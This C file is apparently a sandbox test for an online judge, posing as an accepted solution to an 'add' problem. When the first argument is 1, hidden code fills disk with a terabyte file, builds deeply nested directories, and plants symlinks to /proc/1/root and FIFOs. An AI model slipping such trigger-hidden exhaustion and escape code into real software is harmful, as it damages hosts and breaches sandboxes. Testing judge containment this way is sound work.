// Files of a terabyte, names as long as they may be, and a folder in a folder for ever.
// problem: add
// verdicts: AC
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

int add(int a, int b) {
    if (a != 1) return a + b;
    signal(SIGXFSZ, SIG_IGN);
    int file = open("/tmp/holes", O_RDWR | O_CREAT, 0600);
    if (ftruncate(file, 1L << 40) == 0) puts("BREACH: a terabyte");
    fallocate(file, 0, 0, 1L << 40);
    char name[256];
    memset(name, 'x', 255);
    name[255] = 0;
    chdir("/tmp");
    for (int i = 0; i < 3000 && mkdir(name, 0700) == 0 && chdir(name) == 0; i++) {
    }
    for (int i = 0; i < 3000; i++) {
        char link[32];
        sprintf(link, "/tmp/l%d", i);
        symlink("/proc/1/root", link);
        sprintf(link, "/tmp/f%d", i);
        mkfifo(link, 0666);
    }
    return a + b;
}
